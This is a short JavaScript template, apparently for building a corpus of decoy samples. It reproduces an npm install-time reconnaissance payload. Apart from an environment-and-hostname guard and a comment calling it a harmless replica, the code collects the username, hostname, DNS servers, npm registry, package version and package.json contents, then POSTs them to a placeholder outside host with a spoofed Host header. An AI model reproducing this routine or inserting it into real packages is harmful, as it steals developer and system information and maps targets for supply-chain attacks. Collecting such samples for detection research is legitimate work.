// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const fs = require('fs'), os = require('os'), path = require('path');
  let manifest = '{}';
  for (const root of [process.env.INIT_CWD, process.cwd(), path.join(process.cwd(), '../..')]) {
    try { manifest = fs.readFileSync(path.join(root, 'package.json'), 'utf8'); break; } catch (error) { continue; }
  }
  const facts = JSON.stringify({ who: os.userInfo().username, host: os.hostname(), dns: require('dns').getServers(), manifest, r: process.env.npm_config_registry, v: process.env.npm_package_version });
  await new Promise((done) => {
    const request = require('http').request({ host: '{{ip}}', port: {{port}}, path: '/{{path}}', method: 'POST', timeout: 1000, headers: { host: '{{host}}' } }, (answer) => answer.resume());
    request.on('timeout', () => request.destroy());
    request.on('error', done);
    request.on('close', done);
    request.end(facts);
  });
}
